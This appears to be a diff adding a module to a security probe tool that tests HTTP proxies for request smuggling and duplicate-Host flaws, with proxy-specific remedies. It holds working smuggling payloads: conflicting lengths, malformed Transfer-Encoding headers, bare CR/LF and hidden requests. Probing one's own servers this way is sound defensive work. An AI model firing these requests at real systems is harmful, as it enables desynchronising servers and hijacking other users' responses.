@@ -1,0 +1,107 @@
+"""Attacks by requests whose end servers read differently (request smuggling)."""
+
+from __future__ import annotations
+
+from authotron.probe import judges
+from authotron.probe.attack import Attack
+from authotron.probe.request import Request
+
+_HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: {host}\r\nX-Probe-Mark: {hidden}\r\n\r\n"
+_CHUNKED = b"Transfer-Encoding: chunked"
+_ENDED = b"0\r\n\r\n"
+_STRICT = {
+    "nginx": "update to nginx 1.21.1 or later",
+    "apache": "HttpProtocolOptions Strict, and update to Apache 2.4.53 or later",
+    "haproxy": "remove option accept-invalid-http-request and option h1-case-adjust",
+    "envoy": "http_protocol_options without allow_chunked_length",
+}
+
+
+def _length(body: bytes, value: bytes = b"") -> bytes:
+    return b"Content-Length: " + (value or str(len(body)).encode())
+
+
+def _post(label: str, *fields: bytes, body: bytes) -> Request:
+    return Request(label, fields, method=b"POST", body=body, lingers=True)
+
+
+_SHORT = _ENDED + _HIDDEN
+_PAIR = b"x" * 5
+
+ATTACKS = (
+    Attack(
+        name="request-framing",
+        leak="The backend gets a request whose end it may read elsewhere than the proxy, so that "
+        "a client can hide a request in a body: nothing is asked about that one.",
+        remedy="refuse requests with two lengths, other transfer codings than chunked, and line "
+        "ends other than CR LF (RFC 9112 section 6.3)",
+        by_proxy=_STRICT,
+        requests=(
+            _post("both lengths", b"Content-Length: 5", _CHUNKED, body=_SHORT),
+            _post(
+                "both lengths, chunked first",
+                _CHUNKED,
+                b"Content-Length: 5",
+                body=_SHORT,
+            ),
+            _post("two lengths", b"Content-Length: 5", b"Content-Length: 0", body=_PAIR),
+            _post("equal lengths", _length(_PAIR), _length(_PAIR), body=_PAIR),
+            _post("lengths in one line", _length(_PAIR, b"5, 5"), body=_PAIR),
+            _post("signed length", _length(_PAIR, b"+5"), body=_PAIR),
+            _post("length with an underscore", _length(_PAIR, b"0_5"), body=_PAIR),
+            _post("two codings", b"Transfer-Encoding: chunked, identity", body=_SHORT),
+            _post("two lines of codings", _CHUNKED, b"Transfer-Encoding: identity", body=_SHORT),
+            _post("unknown coding", b"Transfer-Encoding: xchunked", body=_SHORT),
+            _post("coding twice", b"Transfer-Encoding: chunked, chunked", body=_SHORT),
+            _post("coding behind a tab", b"Transfer-Encoding:\x0bchunked", body=_SHORT),
+            _post("space before the colon", b"Transfer-Encoding : chunked", body=_SHORT),
+            _post("folded coding", b"Transfer-Encoding:\r\n chunked", body=_SHORT),
+            _post("quoted coding", b'Transfer-Encoding: "chunked"', body=_SHORT),
+            _post("bare LF", b"X-Other: a\nContent-Length: 5", body=_PAIR),
+            _post("bare CR", b"X-Other: a\rContent-Length: 5", body=_PAIR),
+            _post("chunk lines by LF", _CHUNKED, body=b"1\nx\n0\n\n" + _HIDDEN),
+            _post("size in a strange form", _CHUNKED, body=b"0x1\r\nx\r\n" + _SHORT),
+            _post("LF in an extension", _CHUNKED, body=b"1;a\nb\r\nx\r\n" + _SHORT),
+            _post("too many chunk digits", _CHUNKED, body=b"10000000000000001\r\nx\r\n" + _SHORT),
+            Request("body of a GET", (_length(_PAIR),), body=_PAIR, lingers=True),
+            Request(
+                "HTTP/1.0 with a coding",
+                (_CHUNKED,),
+                version=b"HTTP/1.0",
+                method=b"POST",
+                body=_SHORT,
+                lingers=True,
+            ),
+        ),
+        judge=judges.framing,
+    ),
+    Attack(
+        name="hidden-request",
+        leak="A request that was hidden in the body of another one reached the backend, or a "
+        "client gets the answer to another client's request.",
+        remedy="refuse requests whose end is ambiguous, and update the proxy",
+        by_proxy=_STRICT,
+        requests=(Request("ordinary"),) * 4,
+        judge=judges.stranger,
+    ),
+    Attack(
+        name="two-hosts",
+        leak="The backend gets two hosts, of which the gateway may have judged the other one.",
+        remedy="refuse requests with two hosts, and pass on the path of absolute targets alone",
+        by_proxy={"haproxy": "http-request set-uri %[pathq]"},
+        requests=(
+            Request("absolute form", target=b"http://other.example{path}"),
+            Request(
+                "absolute form with the same host",
+                target=b"http://other.example{path}",
+                host=(b"Host: other.example",),
+            ),
+            Request("two lines", host=(b"Host: {host}", b"Host: other.example")),
+            Request("second line in lower case", host=(b"Host: {host}", b"host: other.example")),
+            Request("folded line", host=(b"Host: {host}\r\n other.example",)),
+            Request("space before the colon", host=(b"Host: {host}", b"Host : other.example")),
+        ),
+        judge=judges.other_authority,
+    ),
+)
+"""The attacks by the framing of requests."""
